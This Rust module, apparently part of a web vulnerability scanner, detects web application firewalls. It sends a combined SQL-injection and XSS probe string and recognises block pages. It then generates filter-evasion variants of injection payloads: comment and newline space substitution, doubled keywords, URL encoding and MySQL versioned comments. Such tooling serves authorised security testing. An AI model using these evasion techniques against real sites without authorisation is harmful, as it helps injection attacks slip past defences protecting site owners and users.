//! WAF heuristic and adaptive bypass variants

use super::{ProbeKind, Prober};
use crate::events::LogLevel;
use crate::models::{AttackSurface, CapturedResponse};
use crate::scanner::mutation::url_encode;
use regex::Regex;
use std::sync::LazyLock;
use tracing::debug;

/// Sent once per parameter; trips most signature-based filters
pub const WAF_TRIGGER: &str = "' or 1=1-- <script>alert(1)</script>";

const MAX_VARIANT_LEN: usize = 200;

static BLOCK_PAGE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)waf|firewall|blocked|access denied|forbidden").expect("block page regex")
});
static SELECT_KW: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?i)select").expect("select regex"));
static UNION_KW: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?i)union").expect("union regex"));
static OR_KW: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?i)\bor\b").expect("or regex"));
static AND_KW: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"(?i)\band\b").expect("and regex"));

/// Whether a response looks like a filter block page
pub fn looks_blocked(resp: &CapturedResponse) -> bool {
    resp.status == 403 || resp.status == 406 || BLOCK_PAGE.is_match(&resp.body)
}

/// Sends the trigger payload to `param`. Request failures count as "no WAF".
pub async fn detect_waf(prober: &Prober, surface: &AttackSurface, param: &str) -> bool {
    match prober.send(surface, param, WAF_TRIGGER, ProbeKind::Waf).await {
        Ok(resp) if looks_blocked(&resp) => {
            prober.log(
                LogLevel::Warn,
                &format!(
                    "Possible WAF in front of {} (param {param}, status {})",
                    surface.action, resp.status
                ),
            );
            true
        }
        Ok(_) => false,
        Err(e) => {
            debug!("WAF probe failed for {param}: {e}");
            false
        }
    }
}

/// Filter-evasion rewrites of `payload`, original first, deduplicated, each under 200 chars
pub fn adaptive_variants(payload: &str) -> Vec<String> {
    let candidates = [
        payload.to_string(),
        url_encode(payload),
        payload.replace(' ', "/**/"),
        payload.replace(' ', "+"),
        payload.replace(' ', "%0a"),
        SELECT_KW.replace_all(payload, "seselectlect").into_owned(),
        UNION_KW.replace_all(payload, "uniunionon").into_owned(),
        OR_KW.replace_all(payload, "oorr").into_owned(),
        AND_KW.replace_all(payload, "aandnd").into_owned(),
        format!("'/*!50000{payload}*/'"),
    ];

    let mut variants: Vec<String> = Vec::with_capacity(candidates.len());
    for candidate in candidates {
        if candidate.len() < MAX_VARIANT_LEN && !variants.contains(&candidate) {
            variants.push(candidate);
        }
    }
    variants
}
